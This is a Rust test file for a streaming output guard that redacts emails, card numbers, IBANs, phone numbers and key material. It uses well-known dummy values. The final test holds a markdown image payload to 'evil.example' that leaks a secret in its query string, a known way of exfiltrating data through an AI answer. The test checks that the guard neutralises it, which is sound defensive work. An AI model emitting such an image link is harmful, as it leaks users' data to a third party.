//! However a text is cut into pieces, the same comes out.

use crate::{guarded, now, policy};
use mainstay_domain::GovernanceLevel;
use mainstay_governance::StreamGuard;
use proptest::prelude::*;

fn streamed<'a>(pieces: impl IntoIterator<Item = &'a str>) -> String {
    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Moderate));
    let mut released: String = pieces.into_iter().map(|piece| guard.push(piece)).collect();
    released.push_str(&guard.finish(now()).0);
    released
}

/// Pieces of text that findings are made of, and what stands around them.
fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(" ".to_owned()),
        Just("ada@example.org".to_owned()),
        Just("4111 1111 1111 1111".to_owned()),
        Just("4111111111111111".to_owned()),
        Just("GB29 NWBK 6016 1331 9268 19".to_owned()),
        Just("DE89370400440532013000".to_owned()),
        Just("+44 20 7946 0958".to_owned()),
        Just("(415) 555-2671".to_owned()),
        Just("192.0.2.17".to_owned()),
        Just("2001:db8::17".to_owned()),
        Just("078-05-1120".to_owned()),
        Just("AKIAIOSFODNN7EXAMPLE".to_owned()),
        Just("-----BEGIN RSA PRIVATE KEY-----".to_owned()),
        Just("-----BEGIN".to_owned()),
        Just("-----END RSA PRIVATE KEY-----".to_owned()),
        Just("\u{200B}".to_owned()),
        Just("１２３".to_owned()),
        Just("漢字".to_owned()),
        Just("call me".to_owned()),
        Just("![a](https://e.example/x)".to_owned()),
        "[!\\[\\]()]{1,4}",
        Just("\n".to_owned()),
        Just("@".to_owned()),
        "[A-Z]{2}[0-9]{2}",
        "[0-9]{1,5}",
        "[ ().+-]{1,4}",
        "[a-zA-Z0-9.@:/ _-]{1,12}",
        "\\PC{1,6}",
    ]
}

/// Fragments that reach the bounds of what is held are rare, since they are slow.
fn text() -> impl Strategy<Value = String> {
    let long = prop_oneof!["[0-9 ]{500,700}", "[a-z0-9]{4000,4300}", "\\([0-9]{600}"];
    let fragment = prop_oneof![100 => fragment(), 1 => long];
    prop::collection::vec(fragment, 0..12).prop_map(|fragments| fragments.concat())
}

proptest! {
    #[test]
    fn any_split_gives_the_same_text(text in text(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..20)) {
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
        cuts.extend([0, text.len()]);
        cuts.retain(|cut| text.is_char_boundary(*cut));
        cuts.sort_unstable();
        let pieces = cuts.windows(2).map(|cut| &text[cut[0]..cut[1]]);
        prop_assert_eq!(streamed(pieces), guarded(&text));
    }

    #[test]
    fn character_by_character_gives_the_same_text(text in text()) {
        let mut buffer = [0; 4];
        let mut guard = StreamGuard::new(&policy(GovernanceLevel::Moderate));
        let mut released = String::new();
        for c in text.chars() {
            released.push_str(&guard.push(c.encode_utf8(&mut buffer)));
        }
        released.push_str(&guard.finish(now()).0);
        prop_assert_eq!(released, guarded(&text));
    }

    #[test]
    fn a_permissive_guard_changes_nothing(text in text()) {
        let mut guard = StreamGuard::new(&policy(GovernanceLevel::Permissive));
        let mut released = guard.push(&text);
        released.push_str(&guard.finish(now()).0);
        prop_assert_eq!(released, text);
    }
}

#[test]
fn prose_is_released_word_by_word() {
    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Moderate));
    assert_eq!(guard.push("The quick bro"), "The quick ");
    assert_eq!(guard.push("wn fox, "), "brown fox, ");
    assert_eq!(guard.push("in 2024 it"), "in 2024 ");
    assert_eq!(guard.push(" jumped."), "it ");
    assert_eq!(guard.finish(now()).0, "jumped.");
}

#[test]
fn scripts_without_spaces_are_released_at_once() {
    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Moderate));
    assert_eq!(guard.push("今日は天気"), "今日は天気");
}

#[test]
fn half_an_address_is_never_released() {
    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Moderate));
    let mut released = String::new();
    for piece in ["Write to ad", "a", "@exam", "ple", ".or", "g", " now"] {
        released.push_str(&guard.push(piece));
        assert!(!released.contains("ad"), "{released}");
    }
    let (rest, decisions) = guard.finish(now());
    assert_eq!(released + &rest, "Write to <EMAIL_1> now");
    assert_eq!(decisions.len(), 1);
    assert_eq!(decisions[0].rule_id, "personal_data.email");
}

#[test]
fn placeholders_of_the_question_and_of_the_answer_are_told_apart() {
    let policy = policy(GovernanceLevel::Moderate);
    let question = mainstay_governance::Question {
        prompt: "Write to ada@example.org",
        ..Default::default()
    };
    let before = mainstay_governance::before(&policy, &question, now());
    let mut guard = StreamGuard::answering(&policy, &before.redactions);
    let mut answer = guard.push("Dear <EMAIL_1>, ask bob@example.org, not ada@example.org!");
    answer.push_str(&guard.finish(now()).0);
    assert_eq!(answer, "Dear <EMAIL_1>, ask <EMAIL_2>, not <EMAIL_1>!");
    assert_eq!(
        before.redactions.restore(&answer),
        "Dear ada@example.org, ask <EMAIL_2>, not ada@example.org!"
    );
}

#[test]
fn a_picture_on_another_host_is_not_fetched_by_itself() {
    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Moderate));
    let mut answer = guard.push("Look: ![x](https://evil.example/?q=se");
    answer.push_str(&guard.push("cret) and vec![1]"));
    let (rest, decisions) = guard.finish(now());
    answer.push_str(&rest);
    assert_eq!(
        answer,
        "Look: [x](https://evil.example/?q=secret) and vec![1]"
    );
    assert_eq!(decisions[0].rule_id, "output.remote_image");
    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Permissive));
    assert_eq!(guard.push("![x](https://e "), "![x](https://e ");
}
